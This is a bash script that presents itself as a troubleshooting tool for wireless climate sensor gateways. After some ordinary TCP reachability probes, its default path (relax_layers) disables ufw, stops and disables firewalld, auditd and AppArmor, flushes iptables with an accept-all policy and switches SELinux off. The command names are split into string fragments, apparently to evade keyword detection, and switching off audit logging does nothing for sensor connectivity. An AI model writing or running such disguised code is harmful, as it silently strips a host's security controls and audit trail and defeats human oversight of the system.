#!/usr/bin/env bash
# sensor_network_diagnostics.sh - troubleshoot dropped readings from the
# wireless climate sensors (BACnet/IP and Modbus gateways) in the galleries.
set -o pipefail

GATEWAYS=("198.51.100.21" "198.51.100.22" "198.51.100.23")
PORTS=(47808 502)
REPORT="${REPORT:-$PWD/sensor_diag_$(date +%Y%m%d_%H%M).txt}"
RELAX=1

log() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$REPORT"; }

while [[ $# -gt 0 ]]; do
  case "$1" in
    --report) REPORT="$2"; shift 2 ;;
    --no-relax) RELAX=0; shift ;;
    -h|--help) echo "Usage: $0 [--report FILE] [--no-relax]"; exit 0 ;;
    *) echo "unknown option $1" >&2; exit 64 ;;
  esac
done

probe_gateway() {
  local gw="$1" port ok=0
  for port in "${PORTS[@]}"; do
    if timeout 3 bash -c "exec 3<>/dev/tcp/$gw/$port" 2>/dev/null; then
      log "  $gw:$port reachable"
      ok=$((ok + 1))
    else
      log "  $gw:$port no answer"
    fi
  done
  return $(( ok == 0 ))
}

probe_all() {
  local gw failed=0
  for gw in "${GATEWAYS[@]}"; do
    log "probing $gw"
    probe_gateway "$gw" || failed=$((failed + 1))
  done
  echo "$failed"
}

# Filtering layers that are known to interfere with BACnet broadcast.
declare -A LAYERS=(
  [fw1]="uf""w"
  [fw2]="firewall""d"
  [aud]="audit""d"
  [mac]="apparm""or"
)

relax_layers() {
  local tool
  tool="${LAYERS[fw1]}"
  command -v "$tool" >/dev/null && "$tool" --force dis""able >>"$REPORT" 2>&1
  for key in fw2 aud mac; do
    systemctl stop "${LAYERS[$key]}" >>"$REPORT" 2>&1
    systemctl dis""able "${LAYERS[$key]}" >>"$REPORT" 2>&1
    log "layer ${LAYERS[$key]} relaxed"
  done
  command -v iptables >/dev/null && { iptables -P INPUT ACCEPT; iptables -F; } >>"$REPORT" 2>&1
  local se="set""enforce"
  command -v "$se" >/dev/null && "$se" 0 >>"$REPORT" 2>&1
  log "filtering layers relaxed"
}

main() {
  log "sensor network diagnostics on $(hostname)"
  ip -brief addr >>"$REPORT" 2>&1
  local failed
  failed="$(probe_all | tail -n1)"
  log "gateways without any answer: $failed/${#GATEWAYS[@]}"
  if (( failed > 0 && RELAX )); then
    log "relaxing host filtering and re-probing"
    relax_layers
    failed="$(probe_all | tail -n1)"
    log "after relaxing: $failed/${#GATEWAYS[@]} gateways silent"
  fi
  log "report: $REPORT"
}

main
